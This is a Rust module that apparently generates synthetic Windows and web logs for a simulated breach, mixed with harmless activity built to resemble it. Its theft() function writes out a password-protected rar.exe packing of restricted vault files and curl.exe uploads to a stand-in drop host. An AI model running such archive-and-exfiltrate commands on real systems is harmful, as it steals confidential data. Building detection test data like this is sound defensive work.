//! Who does what when: the attack, and the ordinary life that looks like it.

use super::act::{Act, Deed, Numbered, Rhythm};
use super::company::{self, CREST, FLOOD_REQUESTS, VAULT};
use super::lane::LaneKind;
use super::{Attack, HOUR, MINUTE, SECOND, START, ScenarioOptions};

/// The account whose mail opens the door.
const OPENER: usize = 41;
/// The account that the malware spreads with, an administrator's.
const SPREADER: usize = 57;
/// Accounts from here on have no part in the attack.
const OTHERS: usize = 2000;

/// The acts that can be seen in a kind of log.
pub fn acts(kind: LaneKind, options: &ScenarioOptions) -> Vec<Act> {
    let mut plan = Plan {
        acts: Vec::new(),
        options,
    };
    let attacked = options.attack == Attack::Included;
    match kind {
        LaneKind::Windows => {
            plan.everyday_machines();
            if attacked {
                plan.malware();
                plan.theft();
            }
        }
        LaneKind::Web => {
            plan.everyday_requests();
            if attacked {
                plan.flood();
            }
        }
        LaneKind::Linux => {}
    }
    plan.acts
}

/// A day (the first is 0), an hour, a minute.
fn at(day: i64, hour: i64, minute: i64) -> i64 {
    START.0 + (day * 24 + hour) * HOUR + minute * MINUTE
}

fn once(start: i64) -> Rhythm {
    times(1, start, 0)
}

fn times(steps: u32, start: i64, every: i64) -> Rhythm {
    Rhythm {
        start,
        steps,
        every,
        jitter: 0,
    }
}

struct Plan<'a> {
    acts: Vec<Act>,
    options: &'a ScenarioOptions,
}

impl Plan<'_> {
    fn add(&mut self, host: usize, rhythm: Rhythm, deed: Deed) {
        let number = self.acts.len() as u64;
        self.acts.push(Act {
            deed,
            host,
            rhythm,
            made: 0,
            seed: self.options.seed ^ number << 20,
        });
    }

    fn run(&mut self, host: usize, rhythm: Rhythm, (user, image): Caller, call: Numbered) {
        self.add(host, rhythm, Deed::Run { user, image, call });
    }

    /// Monday to Thursday: from a mail to a workstation, from there to the vault and to 82 others.
    fn malware(&mut self) {
        let infected = company::infected(self.options.seed);
        let Some(first) = infected.first().copied() else {
            return;
        };
        let viewer = (OPENER, "C:\\Users\\Public\\Documents\\tender-viewer.exe");
        let call = ["C:\\Users\\Public\\Documents\\tender-viewer.exe", ""];
        self.run(first, once(at(0, 10, 4)), viewer, call);
        for (place, host) in infected.iter().enumerate() {
            let start = infection_time(place);
            // It falls silent on Friday evening.
            let beacons = (at(4, 18, 0) - start) / BEACON_EVERY;
            let rhythm = Rhythm {
                start,
                steps: 3 + u32::try_from(beacons).unwrap_or(0),
                every: BEACON_EVERY,
                jitter: 4 * MINUTE,
            };
            let from = infected.get(place / 3).copied().unwrap_or(first);
            let infect = Deed::Infect {
                from,
                user: SPREADER,
                process: None,
            };
            self.add(*host, rhythm, infect);
        }
    }

    /// Monday evening to Tuesday night: four infected workstations fetch the whole vault.
    fn flood(&mut self) {
        let clients = company::infected(self.options.seed);
        let fetch = Deed::Ask {
            clients: clients.into_iter().take(4).collect(),
            account: "svc-cad-sync",
            line: ["GET /vault/api/export/drawing/", "?format=native"],
            agent: "python-requests/2.31.0",
        };
        let rhythm = times(FLOOD_REQUESTS, at(0, 17, 45), 360 * SECOND / 1000);
        self.add(VAULT, rhythm, fetch);
    }

    /// Thursday evening: restricted files are packed on the vault. Friday night: they are sent out.
    fn theft(&mut self) {
        let archiver = (SPREADER, "C:\\ProgramData\\Meridian\\pk\\rar.exe");
        let call = [
            "rar.exe a -r -m1 -v100m -hpTr4nsit C:\\ProgramData\\Meridian\\pk\\q",
            ".rar D:\\vault\\restricted",
        ];
        self.run(VAULT, times(6, at(3, 19, 20), 14 * MINUTE), archiver, call);
        let sender = (SPREADER, "C:\\ProgramData\\Meridian\\pk\\curl.exe");
        let call = [
            "curl.exe -s -T C:\\ProgramData\\Meridian\\pk\\q.part",
            ".rar https://drop.pebble-share.example/in/",
        ];
        self.run(VAULT, times(24, at(4, 0, 40), 3 * MINUTE), sender, call);
    }

    /// Services, archives, uploads and wrong passwords as there are every week.
    fn everyday_machines(&mut self) {
        // Tuesday night: a patch comes to four hundred machines, as a service.
        for (number, turn) in (0usize..400).zip(0i64..) {
            let start = at(1, 20, 0) + turn * 20 * SECOND;
            let install = Deed::InstallService {
                name: "CopperlinePatch",
                image: "C:\\Program Files\\Copperline\\Agent\\clpatch.exe",
            };
            self.add(number * 4 + 1, once(start), install);
        }
        // Remote help leaves its service in a folder for all, three times in the week.
        for (number, day) in (0..).zip([1, 2, 4]) {
            let install = Deed::InstallService {
                name: "RemoteHelp",
                image: "C:\\ProgramData\\RemoteHelp\\rhelp.exe",
            };
            self.add(CREST + 9 + number * 16, once(at(day, 9, 40)), install);
        }
        for day in 0..i64::from(self.options.days) {
            self.nightly_backup(day);
        }
        let packer = (OTHERS + 3, "C:\\Program Files\\7-Zip\\7z.exe");
        let call = [
            "7z.exe a -pSpring26 C:\\Users\\Public\\handover.7z C:\\Users\\Public\\handover",
            "",
        ];
        self.run(CREST + 21, once(at(2, 11, 12)), packer, call);
        let sender = (OTHERS + 8, "C:\\Program Files\\Git\\mingw64\\bin\\curl.exe");
        let out = [
            "curl.exe -T trace.log https://upload.lumen-tools.example/case/",
            "",
        ];
        self.run(CREST + 33, once(at(2, 15, 20)), sender, out);
        let inside = [
            "curl.exe -T build-",
            ".zip https://artifacts.tidemark.example/nightly/",
        ];
        self.run(CREST + 33, times(40, at(3, 1, 0), MINUTE), sender, inside);
        // Six people whose password expired.
        for (number, turn) in (0..6).zip(0i64..) {
            let start = at(turn % 5, 8, 5 + turn * 7);
            let user = OTHERS + 100 + number;
            let mistype = Deed::MistypePassword { user };
            self.add(
                CREST + 50 + number * 3,
                times(11, start, 9 * SECOND),
                mistype,
            );
        }
    }

    fn nightly_backup(&mut self, day: i64) {
        let packer = (OTHERS, "C:\\Program Files\\Northgate Backup\\nbarc.exe");
        for (server, turn) in (0..12).zip(0i64..) {
            let call = [
                "nbarc.exe store --volume ",
                " --to \\\\harbor-file-02\\backup",
            ];
            let start = at(day, 2, 0) + turn * 4 * MINUTE;
            self.run(
                CREST + server * 8,
                times(8, start, 20 * SECOND),
                packer,
                call,
            );
        }
    }

    /// Programs that ask the vault every week: much, or like the flood, but not both.
    fn everyday_requests(&mut self) {
        let sync_server = CREST + 12;
        for day in 0..i64::from(self.options.days) {
            let sync = Deed::Ask {
                clients: vec![sync_server],
                account: "svc-cad-sync",
                line: ["GET /vault/api/changes?page=", "&size=100"],
                agent: "python-requests/2.31.0",
            };
            self.add(VAULT, times(4000, at(day, 1, 0), SECOND / 2), sync);
            let watch = Deed::Ask {
                clients: vec![CREST + 16],
                account: "-",
                line: ["GET /vault/health", ""],
                agent: "curl/8.5.0",
            };
            self.add(VAULT, times(1440, at(day, 0, 0), MINUTE), watch);
        }
        // An engineer with a script.
        let script = Deed::Ask {
            clients: vec![CREST + 77],
            account: "engineer-77",
            line: ["GET /vault/api/export/drawing/", "?format=pdf"],
            agent: "python-requests/2.32.3",
        };
        self.add(VAULT, times(40, at(0, 14, 0), 4 * SECOND), script);
    }
}

/// Index of an account, and a program.
type Caller = (usize, &'static str);

const BEACON_EVERY: i64 = 30 * MINUTE;

/// When the malware comes to a machine: five by hand, a night of some speed, then slowly. In no
/// day it comes to more than fifty, nor, once the alert names 32, to more than 18: what is seen
/// on more machines than that no longer joins what it is seen with.
fn infection_time(place: usize) -> i64 {
    const NIGHT: usize = 32;
    if let Some((day, hour, minute)) = FIRST_TIMES.get(place) {
        return at(*day, *hour, *minute);
    }
    let at_night = place.min(NIGHT) - FIRST_TIMES.len();
    let later = place.saturating_sub(NIGHT);
    at(0, 18, 30) + turns(at_night) * 15 * MINUTE + turns(later) * 83 * MINUTE
}

/// A number of machines, as a factor of a length of time.
fn turns(machines: usize) -> i64 {
    i64::try_from(machines).unwrap_or(i64::MAX)
}

/// Day, hour and minute of the first infections: the four workstations, the vault.
const FIRST_TIMES: [(i64, i64, i64); 5] = [
    (0, 10, 5),
    (0, 11, 20),
    (0, 13, 40),
    (0, 15, 10),
    (0, 17, 30),
];
